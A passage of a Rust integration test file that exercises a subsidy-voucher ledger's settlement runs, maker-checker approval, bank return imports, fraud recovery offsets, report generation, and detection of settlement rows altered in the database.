//! Settlement (issue 7): runs that settle each redemption once, the
//! reconciliation flags that hold lines back, maker-checker approval, the
//! bank payment and return files, recovery offsets, and reports that real
//! readers open (openpyxl, pdftotext). Both backends.

use std::process::Command as Process;
use voucher_ledger::service::commands::Journal;

use axum::http::StatusCode;
use chrono::Datelike;
use serde_json::{Value, json};
use uuid::Uuid;
use voucher_ledger::domain::{Fen, Role, Timestamp};
use voucher_ledger::ledger::account::{Account, AccountKind};
use voucher_ledger::store::Store;

use crate::api_client::{As, Reply, World};
use crate::helpers::{TestDb, balance, on_both_backends, programme};
use crate::issuance::{Firm, scene, terms};
use crate::redemption::{Counter, act, counter, provider_fields, redeem_as, uscc};

on_both_backends!(
    a_run_settles_confirmed_redemptions_once_with_two_people,
    reconciliation_holds_back_each_problem_until_resolved,
    a_bank_return_marks_paid_failed_and_unknown_lines_and_offsets_recovery,
    reports_open_in_real_readers_with_the_right_totals,
    verify_finds_settlement_rows_changed_behind_the_ledger,
    the_cli_prepares_approves_and_exports_a_run,
    a_reversal_before_approval_takes_its_line_out_of_the_run,
    the_annual_cap_holds_and_no_note_lifts_it,
    racing_runs_for_overlapping_periods_settle_each_redemption_once,
    a_batch_pays_many_providers_in_one_verifiable_entry,
    dominating_pairs_count_each_provider_and_firm_of_the_programme,
    every_csv_of_a_run_is_safe_to_open_in_a_spreadsheet,
);

const CODE: &str = "ZS2026-S1";
const FACE: i64 = 500_000;
const CONTRACT: i64 = 400_000;
const SUBSIDY: i64 = 200_000;

pub struct Scene<S: Store> {
    pub world: World<S>,
    pub firms: Vec<Firm>,
    pub vouchers: Vec<Value>,
    pub provider: Counter,
    /// A second finance user: the checker.
    pub checker: As,
}

/// `firms` firms holding one 5,000 元 voucher each, an approved provider,
/// and two finance users.
pub async fn setting<S: Store>(store: S, firms: usize) -> Scene<S> {
    let budget = FACE * firms.max(20) as i64;
    let terms = terms(budget, &[FACE], 1, "static");
    let funding_yuan = (budget / 100).to_string();
    let (world, _issuer, firms) = scene(store, CODE, terms, &funding_yuan, (1, firms)).await;
    let mut vouchers = Vec::new();
    for (index, firm) in firms.iter().enumerate() {
        let claimed = world
            .api
            .post(
                &format!("/api/v1/programmes/{CODE}/claims"),
                &firm.bearer(),
                json!({}),
                &format!("claim-{index}"),
            )
            .await;
        assert_eq!(claimed.status, StatusCode::CREATED, "{:?}", claimed.body);
        vouchers.push(claimed.body);
    }
    let provider = counter(
        &world,
        provider_fields(&uscc(31), &uscc(32), "5,000,000"),
        "approved",
    )
    .await;
    // The checker has a display name (documents sign with it); the
    // preparer `finance` has none (documents fall back to the username).
    let checker = world
        .add_named_user("finance-checker", Some("刘洋"), Role::Finance, None)
        .await;
    Scene {
        world,
        firms,
        vouchers,
        provider,
        checker,
    }
}

/// An 8-digit invoice number that stands for `label` (the same label,
/// the same number).
fn invoice_digits(label: &str) -> String {
    let hash = label.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    });
    format!("{:08}", hash % 100_000_000)
}

/// A contract for `voucher` with its own invoice (numbered from `label`).
pub fn contract(voucher: &Value, label: &str, invoice_fen: i64, proof: bool) -> Value {
    let invoice_number = invoice_digits(label);
    let mut body = json!({
        "qr_text": voucher["token"],
        "service_category": "管理咨询",
        "contract_number": format!("HT-{invoice_number}"),
        "description": "企业管理咨询",
        "contract_amount_fen": CONTRACT,
        "invoice": {"code": "033002600111", "number": invoice_number, "date": "2026-06-01", "amount_fen": invoice_fen},
    });
    if proof {
        body["payment_proof_ref"] = json!(format!("回单-{invoice_number}"));
    }
    body
}

pub async fn redeem<S: Store>(
    world: &World<S>,
    counter: &Counter,
    body: Value,
    key: &str,
) -> Value {
    let reply = redeem_as(world, &counter.staff, body, key).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{:?}", reply.body);
    reply.body
}

/// A setting whose `firms` vouchers were each redeemed for one contract
/// (invoice `<prefix><i>`) and confirmed; returns the redemptions too.
pub async fn confirmed<S: Store>(store: S, firms: usize, prefix: &str) -> (Scene<S>, Vec<Value>) {
    let scene = setting(store, firms).await;
    let bodies = scene
        .vouchers
        .iter()
        .enumerate()
        .map(|(index, voucher)| contract(voucher, &format!("{prefix}{index}"), CONTRACT, true))
        .collect();
    let redemptions =
        redeemed_and_confirmed(&scene.world, &scene.provider, &scene.firms, bodies).await;
    (scene, redemptions)
}

/// Redeems each body (firm `i` holds voucher `i`) and has firm `i` confirm it.
async fn redeemed_and_confirmed<S: Store>(
    world: &World<S>,
    counter: &Counter,
    firms: &[Firm],
    bodies: Vec<Value>,
) -> Vec<Value> {
    let mut redemptions = Vec::new();
    for (index, body) in bodies.into_iter().enumerate() {
        let redemption = redeem(world, counter, body, &format!("r{index}")).await;
        confirm(world, &firms[index], &redemption, &format!("c{index}")).await;
        redemptions.push(redemption);
    }
    redemptions
}

pub async fn confirm<S: Store>(world: &World<S>, firm: &Firm, redemption: &Value, key: &str) {
    let reply = act(
        world,
        &firm.bearer(),
        redemption,
        "confirm",
        json!({"rating": 5}),
        key,
    )
    .await;
    assert_eq!(reply.body["status"], "confirmed", "{:?}", reply.body);
}

/// The quarter of today (UTC+8), e.g. `2026Q4`.
pub fn this_quarter() -> String {
    let today = Timestamp::now().cst_date();
    format!("{}Q{}", today.year(), (today.month() - 1) / 3 + 1)
}

fn this_year() -> String {
    Timestamp::now().cst_date().year().to_string()
}

pub async fn prepare<S: Store>(world: &World<S>, who: &As, period: &str, key: &str) -> Reply {
    world
        .api
        .post(
            "/api/v1/settlement-runs",
            who,
            json!({"programme": CODE, "period": period}),
            key,
        )
        .await
}

pub async fn approve<S: Store>(world: &World<S>, who: &As, run: &Value, key: &str) -> Reply {
    let path = format!(
        "/api/v1/settlement-runs/{}/approve",
        run["id"].as_str().unwrap()
    );
    world.api.post(&path, who, json!({}), key).await
}

fn party(kind: AccountKind, provider_id: &str) -> Account {
    Account::party(kind, &programme(CODE), provider_id).unwrap()
}

fn csv_upload(lines: &[String]) -> Vec<u8> {
    let mut file = String::from("业务参考号,收款账号,金额,状态,备注\n");
    for line in lines {
        file.push_str(line);
        file.push('\n');
    }
    file.into_bytes()
}

pub async fn bank_return<S: Store>(
    world: &World<S>,
    run: &Value,
    lines: &[String],
    key: &str,
) -> Reply {
    let path = format!(
        "/api/v1/settlement-runs/{}/bank-return",
        run["id"].as_str().unwrap()
    );
    world
        .api
        .post_bytes(
            &path,
            &world.bearer("finance"),
            "text/csv",
            csv_upload(lines),
            key,
        )
        .await
}

fn results(reply: &Reply) -> Vec<&str> {
    reply.body["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["result"].as_str().unwrap())
        .collect()
}

async fn a_run_settles_confirmed_redemptions_once_with_two_people<S: Store>(store: S, db: &TestDb) {
    let Scene {
        world,
        firms,
        vouchers,
        provider,
        checker,
    } = setting(store, 3).await;
    let finance = world.bearer("finance");
    let mut redemptions = Vec::new();
    for (index, voucher) in vouchers.iter().enumerate() {
        let body = contract(voucher, &format!("INV{index}"), CONTRACT, true);
        redemptions.push(redeem(&world, &provider, body, &format!("r{index}")).await);
    }
    // Two confirmed; the third still pending is not settleable.
    confirm(&world, &firms[0], &redemptions[0], "c0").await;
    confirm(&world, &firms[1], &redemptions[1], "c1").await;

    let run = prepare(&world, &finance, &this_quarter(), "prep").await;
    assert_eq!(run.status, StatusCode::CREATED, "{:?}", run.body);
    let run = run.body;
    assert_eq!(run["status"], "prepared");
    assert_eq!(
        (run["included_count"].as_i64(), run["held_count"].as_i64()),
        (Some(2), Some(0))
    );
    assert_eq!(run["included_fen"], 2 * SUBSIDY);
    if matches!(db, TestDb::Postgres { .. }) {
        // The run refreshed the planner's statistics of its lines
        // (`SettlementTx::lines_written`): a table never analyzed has
        // reltuples -1, and its reports would be planned as if empty.
        db.try_execute(
            "DO $$ BEGIN IF (SELECT reltuples FROM pg_class WHERE relname = 'settlement_lines') < 2 \
             THEN RAISE EXCEPTION 'settlement_lines was not analyzed'; END IF; END $$",
        )
        .await
        .expect("statistics of settlement_lines refreshed");
    }
    let lines = world
        .api
        .get(
            &format!(
                "/api/v1/settlement-runs/{}/lines",
                run["id"].as_str().unwrap()
            ),
            &finance,
        )
        .await;
    let flagged: Vec<&str> = lines.body["lines"][0]["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    // Redeemed minutes after the claim: a 套现 signal, a warning only.
    assert_eq!(flagged, ["quick_redemption"]);
    assert_eq!(lines.body["lines"][0]["flags"][0]["severity"], "warning");

    // The same period again creates nothing; a retry replays.
    prepare(&world, &finance, &this_quarter(), "prep-again")
        .await
        .expect_error(StatusCode::CONFLICT, "settlement_run_exists");
    let replay = prepare(&world, &finance, &this_quarter(), "prep").await;
    assert_eq!(
        (replay.status, &replay.body["id"]),
        (StatusCode::CREATED, &run["id"])
    );
    assert_eq!(world.count_entries("settlement_prepared").await, 1);
    prepare(&world, &finance, "2026Q5", "bad-period")
        .await
        .expect_error(StatusCode::UNPROCESSABLE_ENTITY, "period_invalid");

    // Maker-checker.
    approve(&world, &finance, &run, "self")
        .await
        .expect_error(StatusCode::FORBIDDEN, "settlement_self_approval");
    let approved = approve(&world, &checker, &run, "approve").await;
    assert_eq!(approved.status, StatusCode::OK, "{:?}", approved.body);
    assert_eq!(approved.body["status"], "approved");
    // People by name: the checker's display name, the preparer's username
    // (the seeded `finance` has no display name).
    assert_eq!(
        (
            approved.body["prepared_by_name"].as_str(),
            approved.body["approved_by_name"].as_str()
        ),
        (Some("finance"), Some("刘洋"))
    );
    receipts_of_the_approval_and_a_redemption(&world, &run, &firms[0], &redemptions[0]).await;
    let payout = &approved.body["payouts"][0];
    assert_eq!(
        (
            payout["gross_fen"].as_i64(),
            payout["net_fen"].as_i64(),
            payout["status"].as_str()
        ),
        (Some(2 * SUBSIDY), Some(2 * SUBSIDY), Some("pending"))
    );
    approve(&world, &checker, &run, "approve-again")
        .await
        .expect_error(StatusCode::CONFLICT, "settlement_state");
    let id = &provider.provider_id;
    assert_eq!(
        balance(&world.store, &party(AccountKind::ProviderPayable, id)).await,
        SUBSIDY
    );
    assert_eq!(
        balance(&world.store, &party(AccountKind::PayoutPending, id)).await,
        2 * SUBSIDY
    );

    // Settled: no longer reversible.
    act(
        &world,
        &provider.staff,
        &redemptions[0],
        "reverse",
        json!({"reason": "录入错误"}),
        "x0",
    )
    .await
    .expect_error(StatusCode::CONFLICT, "redemption_settled");

    // The payment file, then the bank's answer.
    let run_id = run["id"].as_str().unwrap();
    let (status, headers, file) = world
        .api
        .download(
            &format!("/api/v1/settlement-runs/{run_id}/payment-file"),
            &finance,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains("attachment")
    );
    let file = String::from_utf8(file).unwrap();
    let reference = payout["reference"].as_str().unwrap();
    assert!(
        file.contains(&format!(
            "{},4000.00,{reference}",
            payout["account_number"].as_str().unwrap()
        )),
        "{file}"
    );
    let account = payout["account_number"].as_str().unwrap();
    let answer = [
        format!("{reference},{account},4000.00,成功,"),
        "VLNOSUCHREFERENCE,1,1.00,成功,".to_string(),
    ];
    let imported = bank_return(&world, &run, &answer, "bank-1").await;
    assert_eq!(imported.status, StatusCode::OK, "{:?}", imported.body);
    assert_eq!(results(&imported), ["paid", "unknown_reference"]);
    assert_eq!(
        balance(&world.store, &party(AccountKind::Paid, id)).await,
        2 * SUBSIDY
    );
    assert_eq!(
        balance(&world.store, &party(AccountKind::PayoutPending, id)).await,
        0
    );
    // The same file again (a new request) pays nothing twice.
    let again = bank_return(&world, &run, &answer, "bank-2").await;
    assert_eq!(results(&again), ["already_recorded", "unknown_reference"]);
    assert_eq!(again.body["sequence"], Value::Null);
    assert_eq!(world.count_entries("payouts_recorded").await, 1);

    // The first firm is found fraudulent after being paid for: its
    // settled redemption's subsidy becomes the provider's receivable, once.
    let mark = |key: &'static str| {
        let body = json!({"party_kind": "enterprise", "party_id": firms[0].enterprise_id.to_string(), "reason": "虚假交易", "source": "市经信局稽查"});
        let (api, admin) = (world.api.clone(), world.bearer("admin"));
        async move { api.post("/api/v1/fraud-markings", &admin, body, key).await }
    };
    let marked = mark("fraud-1").await;
    assert_eq!(marked.status, StatusCode::OK, "{:?}", marked.body);
    assert_eq!(marked.body["redemptions_recovered"], 1, "{:?}", marked.body);
    assert_eq!(
        balance(&world.store, &party(AccountKind::Paid, id)).await,
        SUBSIDY
    );
    assert_eq!(
        balance(&world.store, &party(AccountKind::RecoveryReceivable, id)).await,
        SUBSIDY
    );
    assert_eq!(mark("fraud-2").await.body["redemptions_recovered"], 0);

    // Confirmed later: the next run takes only that one.
    confirm(&world, &firms[2], &redemptions[2], "c2").await;
    let next = prepare(&world, &finance, &this_year(), "prep-year").await;
    assert_eq!(next.status, StatusCode::CREATED, "{:?}", next.body);
    assert_eq!(next.body["included_count"], 1);
    // Its approval offsets the receivable against the provider's payout.
    let offset = approve(&world, &checker, &next.body, "approve-year").await;
    assert_eq!(
        offset.body["payouts"][0]["offset_fen"], SUBSIDY,
        "{:?}",
        offset.body
    );
    assert_eq!(offset.body["payouts"][0]["net_fen"], 0);
    assert_eq!(offset.body["payouts"][0]["status"], "paid");
    prepare(&world, &finance, &format!("{}H1", this_year()), "prep-h1")
        .await
        .expect_error(StatusCode::CONFLICT, "nothing_to_settle");
    let summary = voucher_ledger::service::verify::verify_store(&world.store, &[])
        .await
        .unwrap();
    assert!(summary.entries > 0);
}

fn flag_codes(line: &Value) -> Vec<&str> {
    line["flags"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "blocking")
        .map(|f| f["code"].as_str().unwrap())
        .collect()
}

async fn reconciliation_holds_back_each_problem_until_resolved<S: Store>(store: S, _db: &TestDb) {
    let Scene {
        world,
        firms,
        vouchers,
        provider,
        checker,
    } = setting(store, 5).await;
    let finance = world.bearer("finance");
    let bodies = [
        contract(&vouchers[0], "DUP-1", CONTRACT, true),
        contract(&vouchers[1], "DUP-1", CONTRACT, true),
        contract(&vouchers[2], "SHORT", CONTRACT - 1, true),
        contract(&vouchers[3], "NOPROOF", CONTRACT, false),
        contract(&vouchers[4], "RELATED", CONTRACT, true),
    ];
    let redemptions = redeemed_and_confirmed(&world, &provider, &firms, bodies.into()).await;
    // After the redemption, the provider declares firm 5 a related party.
    let mut fields = provider_fields(&uscc(31), &firms[4].uscc, "5,000,000");
    fields["related_parties"][0]["name"] = json!("舟山测试5有限公司");
    let updated = world
        .api
        .post(
            "/api/v1/providers",
            &world.bearer("admin"),
            fields,
            "provider-update",
        )
        .await;
    assert!(updated.status.is_success(), "{:?}", updated.body);

    let run = prepare(&world, &finance, &this_quarter(), "prep")
        .await
        .body;
    assert_eq!(
        (run["included_count"].as_i64(), run["held_count"].as_i64()),
        (Some(0), Some(5))
    );
    let run_id = run["id"].as_str().unwrap().to_string();
    let lines = world
        .api
        .get(&format!("/api/v1/settlement-runs/{run_id}/lines"), &finance)
        .await;
    let by_redemption = |redemption: &Value| -> Value {
        lines.body["lines"]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["redemption_id"] == redemption["id"])
            .unwrap()
            .clone()
    };
    let expected = [
        vec!["invoice_duplicate"],
        vec!["invoice_duplicate"],
        vec!["invoice_short"],
        vec!["payment_proof_missing"],
        vec!["related_party"],
    ];
    for (redemption, codes) in redemptions.iter().zip(expected) {
        let line = by_redemption(redemption);
        assert_eq!(flag_codes(&line), codes, "{line:?}");
        assert_eq!(line["state"], "held");
    }

    // A note resolves a held line into the batch, once.
    let resolve = |redemption: &Value, note: &str, key: &str| {
        let path = format!(
            "/api/v1/settlement-runs/{run_id}/lines/{}/resolve",
            redemption["id"].as_str().unwrap()
        );
        let (api, finance, body) = (world.api.clone(), finance.clone(), json!({"note": note}));
        let key = key.to_string();
        async move { api.post(&path, &finance, body, &key).await }
    };
    resolve(&redemptions[2], "  ", "empty")
        .await
        .expect_error(StatusCode::UNPROCESSABLE_ENTITY, "field_required");
    let resolved = resolve(
        &redemptions[2],
        "纸质发票已核对，差额 0.01 元为四舍五入",
        "res",
    )
    .await;
    assert_eq!(resolved.status, StatusCode::OK, "{:?}", resolved.body);
    assert_eq!(resolved.body["included_count"], 1);
    assert_eq!(
        resolved.body["resolutions"][0]["redemption_id"],
        redemptions[2]["id"]
    );
    resolve(&redemptions[2], "again", "res-2")
        .await
        .expect_error(StatusCode::CONFLICT, "settlement_line_not_held");
    assert_eq!(world.count_entries("settlement_line_resolved").await, 1);
    let resolution = world.last_entry().await;
    assert_eq!(resolution["kind"], "settlement_line_resolved");

    // Approval pays the resolved line and releases the rest for later.
    let approved = approve(&world, &checker, &run, "approve").await;
    assert_eq!(
        approved.body["payouts"][0]["gross_fen"], SUBSIDY,
        "{:?}",
        approved.body
    );
    assert_eq!(approved.body["released_count"], 4);
    let later = prepare(&world, &finance, &this_year(), "prep-year").await;
    assert_eq!(later.status, StatusCode::CREATED, "{:?}", later.body);
    assert_eq!(
        (
            later.body["held_count"].as_i64(),
            later.body["included_count"].as_i64()
        ),
        (Some(4), Some(0))
    );
}

async fn a_bank_return_marks_paid_failed_and_unknown_lines_and_offsets_recovery<S: Store>(
    store: S,
    _db: &TestDb,
) {
    use voucher_ledger::ledger::posting::Posting;
    use voucher_ledger::service::commands::{Command, Submission};
    let Scene {
        world,
        firms,
        vouchers,
        provider,
        checker,
    } = setting(store, 2).await;
    let finance = world.bearer("finance");
    let other = counter(
        &world,
        provider_fields(&uscc(41), &uscc(42), "5,000,000"),
        "approved",
    )
    .await;
    let first = redeem(
        &world,
        &provider,
        contract(&vouchers[0], "A1", CONTRACT, true),
        "r0",
    )
    .await;
    let second = redeem(
        &world,
        &other,
        contract(&vouchers[1], "B1", CONTRACT, true),
        "r1",
    )
    .await;
    confirm(&world, &firms[0], &first, "c0").await;
    confirm(&world, &firms[1], &second, "c1").await;
    // The first provider owes 30,000 fen from an earlier recovery (a journal
    // stands in for the fraud finding that opened it).
    world
        .writer
        .submit(Submission {
            actor: "test:finance".into(),
            idempotency_key: "receivable".into(),
            command: Command::Journal(Journal {
                memo: "追回款（测试）".into(),
                postings: vec![
                    Posting::debit(
                        party(AccountKind::RecoveryReceivable, &provider.provider_id),
                        Fen::new(30_000),
                    ),
                    Posting::credit(
                        crate::helpers::account(AccountKind::BudgetAvailable, CODE),
                        Fen::new(30_000),
                    ),
                ],
            }),
        })
        .await
        .unwrap();
    let run = prepare(&world, &finance, &this_quarter(), "prep")
        .await
        .body;
    let approved = approve(&world, &checker, &run, "approve").await.body;
    let payouts = approved["payouts"]
        .as_array()
        .unwrap_or_else(|| panic!("{run:?} {approved:?}"));
    let of = |id: &str| {
        let found = payouts.iter().find(|p| p["provider_id"] == id);
        found
            .unwrap_or_else(|| panic!("no payout for {id}: {approved:?}"))
            .clone()
    };
    let (p1, p2) = (of(&provider.provider_id), of(&other.provider_id));
    assert_eq!(
        (
            p1["gross_fen"].as_i64(),
            p1["offset_fen"].as_i64(),
            p1["net_fen"].as_i64()
        ),
        (Some(SUBSIDY), Some(30_000), Some(SUBSIDY - 30_000))
    );
    let line = |p: &Value, amount: &str, status: &str| {
        format!(
            "{},{},{amount},{status},{}",
            p["reference"].as_str().unwrap(),
            p["account_number"].as_str().unwrap(),
            if status == "失败" {
                "户名不符"
            } else {
                ""
            }
        )
    };
    let available = crate::helpers::account(AccountKind::BudgetAvailable, CODE);
    let available_before = balance(&world.store, &available).await;
    let answer = [
        line(&p1, "1700.00", "成功"),
        line(&p2, "2000.00", "失败"),
        "VLUNKNOWN0000000000000,6216,5.00,成功,".to_string(),
        line(&p2, "1999.99", "成功"),
    ];
    let imported = bank_return(&world, &run, &answer, "bank").await;
    assert_eq!(imported.status, StatusCode::OK, "{:?}", imported.body);
    assert_eq!(
        results(&imported),
        ["paid", "failed", "unknown_reference", "repeated_reference"]
    );
    assert_eq!(
        (
            imported.body["paid"].as_u64(),
            imported.body["failed"].as_u64()
        ),
        (Some(1), Some(1))
    );
    // Paid: the gross is paid, the offset recovered back into the budget.
    let id1 = &provider.provider_id;
    assert_eq!(
        balance(&world.store, &party(AccountKind::Paid, id1)).await,
        SUBSIDY
    );
    assert_eq!(
        balance(&world.store, &party(AccountKind::RecoveryReceivable, id1)).await,
        0
    );
    assert_eq!(
        balance(&world.store, &available).await,
        available_before + 30_000
    );
    // Failed: payable again, its line released.
    let id2 = &other.provider_id;
    assert_eq!(
        balance(&world.store, &party(AccountKind::ProviderPayable, id2)).await,
        SUBSIDY
    );
    assert_eq!(
        balance(&world.store, &party(AccountKind::PayoutPending, id2)).await,
        0
    );
    let run_view = world
        .api
        .get(
            &format!("/api/v1/settlement-runs/{}", run["id"].as_str().unwrap()),
            &finance,
        )
        .await;
    let statuses: Vec<(&str, &str)> = run_view.body["payouts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["provider_id"].as_str().unwrap(),
                p["status"].as_str().unwrap(),
            )
        })
        .collect();
    assert!(
        statuses.contains(&(id1.as_str(), "paid")) && statuses.contains(&(id2.as_str(), "failed"))
    );
    assert_eq!(run_view.body["released_count"], 1);
    // A later run settles the failed line again, and only it.
    let later = prepare(&world, &finance, &this_year(), "prep-year").await;
    assert_eq!(later.body["included_count"], 1, "{:?}", later.body);
    assert_eq!(later.body["included_fen"], SUBSIDY);
    // Files that cannot be read say why.
    let path = format!(
        "/api/v1/settlement-runs/{}/bank-return",
        run["id"].as_str().unwrap()
    );
    world
        .api
        .post_bytes(
            &path,
            &finance,
            "text/csv",
            b"reference,amount\n".to_vec(),
            "bad",
        )
        .await
        .expect_error(StatusCode::UNPROCESSABLE_ENTITY, "bank_file_invalid");
    voucher_ledger::service::verify::verify_store(&world.store, &[])
        .await
        .unwrap();
}

/// Whether an external reader is installed; under CI it must be.
pub fn reader_available(program: &str, args: &[&str]) -> bool {
    let available = Process::new(program)
        .args(args)
        .output()
        .is_ok_and(|o| o.status.success());
    let required = std::env::var("CI").is_ok_and(|v| v == "true");
    assert!(
        available || !required,
        "CI=true but {program} {args:?} fails"
    );
    if !available {
        eprintln!("skipping: {program} is not installed");
    }
    available
}

async fn reports_open_in_real_readers_with_the_right_totals<S: Store>(store: S, _db: &TestDb) {
    let Scene {
        world,
        firms,
        vouchers,
        provider,
        checker,
    } = setting(store, 3).await;
    let finance = world.bearer("finance");
    // Subsidies 2,000.00 + 2,000.00 + 1,409.50 = 5,409.50 元.
    let amounts = [CONTRACT, CONTRACT, 281_900];
    let bodies = vouchers
        .iter()
        .zip(amounts)
        .enumerate()
        .map(|(index, (voucher, amount))| {
            let mut body = contract(voucher, &format!("INV{index}"), amount, true);
            body["contract_amount_fen"] = json!(amount);
            body
        })
        .collect();
    redeemed_and_confirmed(&world, &provider, &firms, bodies).await;
    let run = prepare(&world, &finance, &this_quarter(), "prep")
        .await
        .body;
    approve(&world, &checker, &run, "approve").await;
    let total = Fen::new(540_950);
    assert_eq!(total.to_daxie(), "人民币伍仟肆佰零玖元伍角");
    let run_id = run["id"].as_str().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let fetch = |file: &str| {
        let path = format!("/api/v1/settlement-runs/{run_id}/report/{file}");
        let (api, auditor) = (world.api.clone(), world.bearer("auditor"));
        async move { api.download(&path, &auditor).await }
    };

    let (status, headers, csv) = fetch("batch.csv").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let csv = String::from_utf8(csv).unwrap();
    assert!(
        csv.contains("合计（大写）,人民币伍仟肆佰零玖元伍角"),
        "{csv}"
    );
    assert!(
        csv.contains("编制人,finance") && csv.contains("审核人,刘洋"),
        "{csv}"
    );
    fetch("batch.txt")
        .await
        .0
        .eq(&StatusCode::NOT_FOUND)
        .then_some(())
        .unwrap();

    let (status, _, xlsx) = fetch("batch.xlsx").await;
    assert_eq!(status, StatusCode::OK);
    let xlsx_path = dir.path().join("batch.xlsx");
    std::fs::write(&xlsx_path, xlsx).unwrap();
    if reader_available("python3", &["-c", "import openpyxl"]) {
        let script = "import sys, openpyxl\n\
            ws = openpyxl.load_workbook(sys.argv[1]).active\n\
            rows = [[c.value for c in row] for row in ws.iter_rows()]\n\
            total = next(r for r in rows if r[0] == '合计')\n\
            daxie = next(r for r in rows if r[0] == '合计（大写）')\n\
            lines = [r for r in rows if isinstance(r[0], (int, float))]\n\
            print(len(lines), '%.2f' % total[9], '%.2f' % sum(r[9] for r in lines), daxie[1])\n";
        let output = Process::new("python3")
            .args(["-c", script, xlsx_path.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert_eq!(
            String::from_utf8(output.stdout).unwrap().trim(),
            "3 5409.50 5409.50 人民币伍仟肆佰零玖元伍角"
        );
    }

    let (status, headers, pdf) = fetch("batch.pdf").await;
    assert_eq!(
        (status, headers["content-type"].to_str().unwrap()),
        (StatusCode::OK, "application/pdf")
    );
    let pdf_path = dir.path().join("batch.pdf");
    std::fs::write(&pdf_path, pdf).unwrap();
    if reader_available("pdftotext", &["-v"]) {
        let output = Process::new("pdftotext")
            .args([pdf_path.to_str().unwrap(), "-"])
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(text.contains("人民币伍仟肆佰零玖元伍角"), "{text}");
        assert!(text.contains("¥5,409.50"), "{text}");
        assert!(text.contains("服务补贴券兑付结算表"), "{text}");
    }

    // A provider reads its own statement, not another's.
    let statement = format!(
        "/api/v1/settlement-runs/{run_id}/statements/{}/statement.csv",
        provider.provider_id
    );
    let (status, _, body) = world.api.download(&statement, &provider.staff).await;
    assert_eq!(status, StatusCode::OK);
    let body = String::from_utf8(body).unwrap();
    assert!(body.contains("实付金额,\"¥5,409.50\""), "{body}");
    let foreign = format!(
        "/api/v1/settlement-runs/{run_id}/statements/{}/statement.csv",
        Uuid::now_v7()
    );
    assert_eq!(
        world.api.download(&foreign, &provider.staff).await.0,
        StatusCode::NOT_FOUND
    );

    // Utilisation: balances and groups agree.
    let path = format!("/api/v1/programmes/{CODE}/utilisation?by=district");
    let utilisation = world.api.get(&path, &finance).await;
    assert_eq!(utilisation.status, StatusCode::OK, "{:?}", utilisation.body);
    let body = &utilisation.body;
    assert_eq!(body["payout_pending_fen"], 540_950);
    assert_eq!(body["groups"][0]["group"], "330902");
    assert_eq!(body["groups"][0]["label"], "定海区");
    assert_eq!(body["groups"][0]["issued_fen"], 3 * FACE);
    assert_eq!(body["groups"][0]["redeemed_fen"], 540_950);
    assert_eq!(body["groups"][0]["settled_fen"], 540_950);
    let identity = [
        "available_fen",
        "outstanding_fen",
        "payable_fen",
        "payout_pending_fen",
        "paid_fen",
        "lapsed_fen",
        "recovery_receivable_fen",
    ]
    .iter()
    .map(|k| body[*k].as_i64().unwrap())
    .sum::<i64>();
    assert_eq!(identity, body["funding_fen"].as_i64().unwrap());
    let (status, _, svg) = world
        .api
        .download(
            &format!("/api/v1/programmes/{CODE}/utilisation.svg?by=month"),
            &finance,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let svg = String::from_utf8(svg).unwrap();
    assert!(svg.starts_with("<svg") && svg.contains("已结算"), "{svg}");
    world
        .api
        .get(
            &format!("/api/v1/programmes/{CODE}/utilisation?by=planet"),
            &finance,
        )
        .await
        .expect_error(StatusCode::UNPROCESSABLE_ENTITY, "grouping_invalid");
}

async fn verify_finds_settlement_rows_changed_behind_the_ledger<S: Store>(store: S, db: &TestDb) {
    use voucher_ledger::service::verify::verify_store;
    let (Scene { world, checker, .. }, _) = confirmed(store, 2, "V").await;
    let run = prepare(&world, &world.bearer("finance"), &this_quarter(), "prep")
        .await
        .body;
    approve(&world, &checker, &run, "approve").await;
    verify_store(&world.store, &[]).await.unwrap();
    let run_id = run["id"].as_str().unwrap();
    let tampered = [
        // A payout marked paid without the bank's word.
        (
            format!("UPDATE payouts SET status = 'paid' WHERE run_id = '{run_id}'"),
            format!("UPDATE payouts SET status = 'pending' WHERE run_id = '{run_id}'"),
            "payout",
        ),
        // A line's subsidy raised: the batch no longer adds up.
        (
            format!(
                "UPDATE settlement_lines SET subsidy_fen = subsidy_fen + 1 WHERE run_id = '{run_id}' AND line_no = 1"
            ),
            format!(
                "UPDATE settlement_lines SET subsidy_fen = subsidy_fen - 1 WHERE run_id = '{run_id}' AND line_no = 1"
            ),
            "batch lines add up",
        ),
        // A line taken out of the batch.
        (
            format!(
                "UPDATE settlement_lines SET state = 'released' WHERE run_id = '{run_id}' AND line_no = 2"
            ),
            format!(
                "UPDATE settlement_lines SET state = 'included' WHERE run_id = '{run_id}' AND line_no = 2"
            ),
            "batch lines add up",
        ),
        // The 兑付表 facts a line carries rewritten (the report would
        // show another contract amount and invoice).
        (
            format!(
                "UPDATE settlement_lines SET contract_amount_fen = contract_amount_fen + 100 WHERE run_id = '{run_id}' AND line_no = 1"
            ),
            format!(
                "UPDATE settlement_lines SET contract_amount_fen = contract_amount_fen - 100 WHERE run_id = '{run_id}' AND line_no = 1"
            ),
            "does not match redemption",
        ),
        (
            format!(
                "UPDATE settlement_lines SET invoice_number = NULL WHERE run_id = '{run_id}' AND line_no = 2"
            ),
            format!(
                "UPDATE settlement_lines SET invoice_number = (SELECT r.invoice_number FROM redemptions r \
                 WHERE r.id = settlement_lines.redemption_id) WHERE run_id = '{run_id}' AND line_no = 2"
            ),
            "does not match redemption",
        ),
        // The run's status rewritten.
        (
            format!(
